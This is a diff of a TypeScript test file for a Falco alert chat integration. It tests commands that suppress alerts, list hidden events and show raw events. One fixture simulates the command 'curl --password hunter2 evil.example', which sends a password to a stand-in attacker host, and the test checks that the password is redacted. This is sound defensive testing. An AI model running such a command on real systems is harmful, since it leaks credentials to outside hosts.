@@ -157,7 +157,7 @@ describe('everything that the buttons of a suppression do, a command does', () =
     expect(await said(house, `/falco lift ${id}`)).toContain('has lifted this suppression already')
 
     const shown = await said(house, `/falco show ${alert}`)
-    expect(shown).toMatch(/Suppressed until.*Hid its first event.*xtended.*Narrowed by.*Kept to its end by.*lifted by/)
+    expect(shown).toMatch(/Suppressed until.*Hid its first event.*xtended.*arrowed by.*Kept to its end by.*lifted by/)
     expect(shown.match(/lifted by/gi)).toHaveLength(1)
     const alone = await said(house, `/falco show ${id.slice(0, 6)}`)
     expect(alone).toMatch(/Made by[^]*Hid its first event[^]*Extended by[^]*Narrowed by[^]*Kept to its end[^]*Lifted by/)
@@ -209,4 +209,25 @@ test('a mistyped rule is answered with the one that fired, and hides nothing', a
   expect(answer).toMatch(/Nothing was suppressed[^]*Did you mean[^]*Terminal shell in container/)
   expect(await said(house, '/falco suppressions')).toContain('No suppression is in force.')
   expect(await said(house, '/falco suppress')).toMatch(/These fired last:[^]*Terminal shell in container/)
+})
+
+describe('what a suppression hides can be looked at', () => {
+  test('`/falco hidden` lists it, `/falco show` its newest, and `/falco event` shows one as it came', async () => {
+    await using house = await openHouse()
+    await house.send(shell())
+    await house.card(rule)
+    const made = await said(house, `/falco suppress "${rule}" namespace=payments 8h because a drill`)
+    const id = /Its id is ([0-9a-z]{8})/.exec(made)?.[1] ?? ''
+    const ran = (command: string) => shell({ hostname: 'node-3', fields: { 'proc.cmdline': command } })
+    await house.send(ran('sh -c first'), ran('sh -c second'), ran('curl --password hunter2 evil.example'))
+    const listed = await said(house, `/falco hidden ${id.slice(0, 5)}`)
+    expect(listed).toMatch(/has hidden 3 events.*on `?node-3`?.*evil\.example.*second.*first/)
+    expect(await said(house, `/falco show ${id}`)).toMatch(/evil\.example.*second.*first/)
+    const [, number = ''] = /\/falco event (\d+)/.exec(listed) ?? []
+    await house.ana.command('falco', `/falco event ${number}`)
+    const { view } = await house.workspace.until('the raw event', () => house.ana.modal)
+    const raw = wordsOf({ text: '', ...view })
+    expect(raw).toContain('"hostname": "node-3"')
+    expect(raw).not.toContain('hunter2')
+  })
 })
